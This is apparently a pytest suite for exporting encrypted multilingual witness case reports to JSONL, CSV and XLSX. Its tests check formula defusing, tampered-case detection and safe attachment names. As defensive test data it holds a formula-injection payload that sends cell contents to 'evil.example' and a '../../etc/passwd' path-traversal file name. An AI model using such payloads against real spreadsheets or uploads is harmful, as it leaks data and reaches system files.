"""The export as a reviewer opens it: a spreadsheet with every field, in every language."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select, update

from storage.attachments import seal_attachment
from storage.cases import AttachmentRef
from storage.crypto.keys import ReviewerPrivateKey
from storage.database import Database
from storage.export import ExportFormat, ExportRequest, defuse, export_cases, safe_file_name
from storage.models import Case
from tests.storage.cases import NARRATIVES, detention, store

PHOTO = b"\xff\xd8\xff\xe0 not really a jpeg " * 1000


async def three_languages(db: Database, key: ReviewerPrivateKey) -> dict[str, str]:
    ids = {}
    for language in ("kk", "ru", "en"):
        ids[language] = (await store(db, detention(language), [key.public])).case_id
    return ids


async def test_jsonl_holds_every_answer_in_every_language(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ids = await three_languages(db, reviewer_key)
    out = tmp_path / "cases.jsonl"
    tally = await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.JSONL))
    assert tally.ok and tally.exported == 3
    records = {r["case_id"]: r for r in map(json.loads, out.read_text("utf-8").splitlines())}
    for language, case_id in ids.items():
        record = records[case_id]
        assert record["answers"]["narrative"] == NARRATIVES[language]
        assert record["language"] == language
        assert record["answers"]["detained_by"] == ["plainclothes", "police"]
        assert record["received_day"] == "2022-01-09"


async def test_csv_opens_in_excel_with_one_column_per_field(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ids = await three_languages(db, reviewer_key)
    out = tmp_path / "cases.csv"
    await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.CSV))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = {r["case_id"]: r for r in csv.DictReader(raw.decode("utf-8-sig").splitlines())}
    kk = rows[ids["kk"]]
    assert kk["narrative"] == NARRATIVES["kk"]
    assert "ә" in kk["narrative"] or "Ағ" in kk["narrative"]
    assert kk["detained_by"] == "plainclothes; police"
    assert kk["event_date.date"] == "2022-01-06"
    assert kk["victims.1.name"] == "А. Б." and kk["victims.2.age"] == "19"
    assert rows[ids["ru"]]["place.town"] == "Алматы"


async def test_xlsx_has_a_sheet_per_report_type(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    await three_languages(db, reviewer_key)
    other = detention("en")
    other = type(other)(**{**other.__dict__, "form_id": "missing_person"})
    await store(db, other, [reviewer_key.public])
    out = tmp_path / "cases.xlsx"
    await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.XLSX))
    book = openpyxl.load_workbook(out)
    assert set(book.sheetnames) == {"detention", "missing_person"}
    sheet = book["detention"]
    header = [c.value for c in sheet[1]]
    narratives = {
        row[header.index("narrative")] for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert narratives == set(NARRATIVES.values())


async def test_a_witness_formula_stays_text_in_the_reviewers_spreadsheet(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await store(db, detention("en", narrative=evil), [reviewer_key.public])
    await export_cases(db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV))
    await export_cases(db, reviewer_key, ExportRequest(tmp_path / "c.xlsx", ExportFormat.XLSX))
    row = next(csv.DictReader((tmp_path / "c.csv").read_text("utf-8-sig").splitlines()))
    assert row["narrative"] == "'" + evil
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx")["detention"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("narrative") + 1)
    assert cell.data_type == "s" and cell.value == evil


@pytest.mark.parametrize("cell", ["=1+1", "+7 701 000", "-5", "@SUM(A1)", "\t=x"])
def test_defuse_covers_every_formula_start(cell: str) -> None:
    assert defuse(cell).startswith("'")


async def test_cases_for_another_key_are_counted_and_skipped(
    db: Database, reviewer_key: ReviewerPrivateKey, other_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    await store(db, detention(), [reviewer_key.public])
    await store(db, detention(), [other_key.public])
    tally = await export_cases(
        db, reviewer_key, ExportRequest(tmp_path / "c.jsonl", ExportFormat.JSONL)
    )
    assert (tally.exported, tally.not_for_this_key, tally.ok) == (1, 1, True)


async def test_a_tampered_case_is_named_and_skipped(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    ids = await three_languages(db, reviewer_key)
    async with db.transaction() as session:
        body = (await session.execute(select(Case.body).where(Case.id == ids["ru"]))).scalar_one()
        damaged = body[:-1] + bytes([body[-1] ^ 1])
        await session.execute(update(Case).where(Case.id == ids["ru"]).values(body=damaged))
    tally = await export_cases(
        db, reviewer_key, ExportRequest(tmp_path / "c.csv", ExportFormat.CSV)
    )
    assert tally.tampered == [ids["ru"]] and tally.exported == 2 and not tally.ok


async def test_attachments_are_decrypted_beside_the_export_and_checked(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    async with db.transaction() as session:
        sealed = await seal_attachment(session, PHOTO, [reviewer_key.public])
    ref = AttachmentRef(
        sealed.attachment_id, sealed.sha256, sealed.size, "photo", "image/jpeg", "../../etc/passwd"
    )
    case_id = (await store(db, detention(attachments=[ref]), [reviewer_key.public])).case_id
    out = tmp_path / "export" / "cases.csv"
    out.parent.mkdir()
    tally = await export_cases(db, reviewer_key, ExportRequest(out, ExportFormat.CSV))
    files = list((tmp_path / "export" / "cases_attachments" / case_id).iterdir())
    assert tally.attachments == 1 and len(files) == 1
    assert files[0].read_bytes() == PHOTO
    assert files[0].name == "01_passwd", "a witness's file name must never become a path"
    row = next(csv.DictReader(out.read_text("utf-8-sig").splitlines()))
    assert row["attachments"] == f"cases_attachments/{case_id}/01_passwd"


def test_safe_file_names() -> None:
    assert safe_file_name(1, "", "photo") == "01_photo"
    assert safe_file_name(2, "..", "voice") == "02_voice"
    assert safe_file_name(3, "C:\\Users\\a\\протокол.pdf", "document") == "03_протокол.pdf"


async def test_filters_by_type_and_day(
    db: Database, reviewer_key: ReviewerPrivateKey, tmp_path: Path
) -> None:
    import datetime as dt

    await store(db, detention(), [reviewer_key.public], today=dt.date(2022, 1, 6))
    await store(db, detention(), [reviewer_key.public], today=dt.date(2022, 1, 20))
    request = ExportRequest(tmp_path / "c.jsonl", ExportFormat.JSONL, since=dt.date(2022, 1, 10))
    assert (await export_cases(db, reviewer_key, request)).exported == 1
    request = ExportRequest(tmp_path / "c.jsonl", ExportFormat.JSONL, form_id="missing_person")
    assert (await export_cases(db, reviewer_key, request)).exported == 0
